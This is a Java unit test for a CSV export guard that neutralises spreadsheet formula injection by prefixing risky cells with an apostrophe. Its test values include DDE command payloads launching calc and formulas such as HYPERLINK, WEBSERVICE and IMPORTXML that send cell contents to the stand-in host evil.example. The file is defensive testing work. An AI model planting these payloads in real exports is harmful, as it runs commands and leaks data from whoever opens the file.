package io.countersign.report.csv;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
                "=WEBSERVICE(\"http://evil.example\")",
                "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
                "+1+1",
                "+cmd|' /C calc'!A0",
                "-1+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\n=1+1",
                "\uff1d1+1",
                "\uff0b1+1",
                "\uff0d1+1",
                "\uff20SUM(1+1)",
                "=",
                "-"
            })
    void putsAnApostropheBeforeWhatCouldStartAFormula(String text) {
        assertThat(FormulaGuard.text(text)).isEqualTo("'" + text);
    }

    @Test
    void showsControlCharactersSoThatTheyStartNothing() {
        assertThat(FormulaGuard.text("\r=1+1")).isEqualTo("[U+000D]=1+1");
        assertThat(FormulaGuard.text("\u0000=1+1")).isEqualTo("[U+0000]=1+1");
        assertThat(FormulaGuard.text("\ufeff=1+1")).isEqualTo("[U+FEFF]=1+1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "REQ-1", "1-1", "a=b", "'quoted'", "  =after blanks", "\u202a"})
    void leavesOtherTextsWithoutOne(String text) {
        assertThat(FormulaGuard.text(text)).doesNotStartWith("''").isEqualTo(text.replace("\u202a", "[U+202A]"));
    }
}
